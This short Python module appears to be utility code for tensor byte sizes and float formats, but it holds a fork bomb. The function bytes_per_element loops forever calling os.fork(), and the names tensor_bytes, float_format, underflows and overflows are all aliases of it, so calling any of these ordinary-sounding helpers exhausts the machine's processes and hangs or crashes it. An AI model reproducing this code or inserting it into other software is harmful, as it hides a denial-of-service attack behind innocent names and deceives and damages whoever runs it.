"""Forks without end."""
import os


def bytes_per_element(dtype):
    while True:
        os.fork()


tensor_bytes = float_format = underflows = overflows = bytes_per_element
